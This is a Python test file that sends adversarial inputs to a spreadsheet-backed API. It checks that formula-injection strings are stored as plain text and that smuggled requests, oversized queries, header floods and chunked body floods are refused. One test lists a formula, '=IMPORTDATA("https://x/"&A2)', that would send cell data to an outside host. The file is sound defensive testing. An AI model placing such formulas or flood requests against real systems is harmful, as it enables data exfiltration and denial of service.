"""The nasty list: every attack and odd input that was thought of, and what must become of it.

One test or table for each line; the inputs are in `nasty_inputs`, with the tests elsewhere that
hold the lines for which a request or a fault is not enough. What Google does to writes and reads
is in `test_nasty_google`.
"""

import json
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

import tests.journeys.nasty_inputs as nasty
from tests.journeys.conftest import Api
from tests.journeys.connection import said_to
from tests.journeys.failure import anonymous, refused
from tests.journeys.nasty_inputs import cases
from tests.journeys.raw import send_raw

TOP = Path(__file__).parents[2]
ROW = b'{"name":"written"}'


def strict(content: bytes) -> Any:
    """JSON as the standard has it."""

    def refuse(text: str) -> None:
        raise ValueError(f"{text} is no JSON")

    return json.loads(content, parse_constant=refuse)


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_an_id_that_is_shared_but_not_granted(shared_api: Api, method: str) -> None:
    """The same bytes as for an unknown ID, and no call."""
    known, unknown = (
        shared_api.send(method, "Secret", spreadsheet=each, content=ROW)
        for each in ("third", "nowhere")
    )

    assert refused(known) == (404, 101)
    assert anonymous(known) == anonymous(unknown)
    assert shared_api.emulator.stats()["calls"] == {}


def test_odd_cells(api: Api) -> None:
    """They are kept as text, listed as valid JSON, and filters and orders work on them."""
    created = [api.post("New", json={"name": cell, "state": "x"}) for cell in nasty.CELLS]
    listed = api.get("New", params={"limit": "100", "where": '{"state":"x"}', "order": "name"})
    records = strict(listed.content)["results"]
    equal = {cell: {"name": cell} for cell in nasty.CELLS if len(cell) < 1000}
    found = {
        cell: strict(api.get("New", params={"where": json.dumps(where)}).content)["results"]
        for cell, where in equal.items()
    }
    ranged = api.get("New", params={"where": '{"name":{"$gte":0}}'})

    assert [answer.json()["name"] for answer in created] == list(nasty.CELLS)
    assert Counter(record["name"] for record in records) == Counter(nasty.CELLS)
    assert {cell: [each["name"] for each in rows] for cell, rows in found.items()} == {
        cell: [cell] for cell in equal
    }
    assert strict(ranged.content)["results"] == []  # 5,000 nines are no finite number


@pytest.mark.parametrize(
    "text", ['=IMPORTDATA("https://x/"&A2)', "\t=1", "+cmd", "@x", "-1+1"], ids=repr
)
def test_a_formula_from_outside(api: Api, text: str) -> None:
    """It is stored as the text that it is, and read back identical."""
    created = api.post("New", json={"name": text})
    updated = api.send("PUT", "Cities/2", json={"name": text})

    for title, answer in (("New", created), ("Cities", updated)):
        cell = api.emulator.cell(title, 2, 1)
        assert answer.json()["name"] == api.get(f"{title}/2").json()["name"] == text
        assert (cell["value"], cell["formula"]) == (text, None)


@cases(nasty.ENDLESS)
def test_an_endless_query(shared_api: Api, name: str) -> None:
    """It is refused by its length, and the next request is answered."""
    where = quote(nasty.ENDLESS[name], safe='[{"$:}]')

    answer = send_raw(shared_api, "GET", f"/v2/sheets/Cities?where={where}")

    assert refused(answer) in ((400, 4002), (414, 4140))
    assert shared_api.names("Cities", limit="1") == ["New York"]


def test_keys_of_nothing_but_commas(shared_api: Api) -> None:
    """As if they named nothing that is there: `rowIndex` alone."""
    answer = shared_api.get("Cities", params={"keys": ",,,", "limit": "1"})

    assert answer.json()["results"] == [{"rowIndex": 2}]


@cases(nasty.SMUGGLED)
def test_two_requests_in_one(shared_api: Api, name: str) -> None:
    """Refused: what follows it on the connection is never answered as a request of its own."""
    answers = said_to(shared_api, nasty.SMUGGLED[name].encode())

    assert answers.startswith(b"HTTP/1.1 400 ")
    assert answers.count(b"HTTP/1.1 ") == 1
    assert shared_api.names("Cities", limit="1") == ["New York"]


def test_a_pipelined_pair(shared_api: Api) -> None:
    """Each is answered, in their order."""
    answers = said_to(shared_api, nasty.PIPELINED.encode()).lower()

    assert answers.count(b"http/1.1 200 ") == 2
    assert answers.index(b"x-request-id: first") < answers.index(b"x-request-id: second")


def test_a_head_without_end(shared_api: Api) -> None:
    """It is refused by its length, and others are unaffected."""
    head = "GET /livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + "X: y\r\n" * 5_000 + "\r\n"

    assert said_to(shared_api, head.encode()).startswith(b"HTTP/1.1 431 ")
    assert shared_api.names("Cities", limit="1") == ["New York"]


def test_a_body_without_end(shared_api: Api) -> None:
    """In chunks, without a length: refused as soon as it is too large."""
    head = "POST /v2/sheets/New HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    head += f"Authorization: {shared_api.keys['paid']}\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"10000\r\n" + b"x" * 65_536 + b"\r\n"

    assert said_to(shared_api, head.encode() + chunk * 16 + b"1\r\nx\r\n").startswith(
        b"HTTP/1.1 413 "
    )
    assert shared_api.emulator.texts("New") == [["name", "state", "country", "population"]]


@cases(nasty.ELSEWHERE)
def test_a_line_that_is_held_elsewhere(name: str) -> None:
    """The tests that hold it are there."""
    found = {}
    for test in nasty.ELSEWHERE[name]:
        file, _, function = test.partition("::")
        found[test] = f"def {function}(" in (TOP / file).read_text("utf-8")

    assert [test for test, is_there in found.items() if not is_there] == []
    assert found
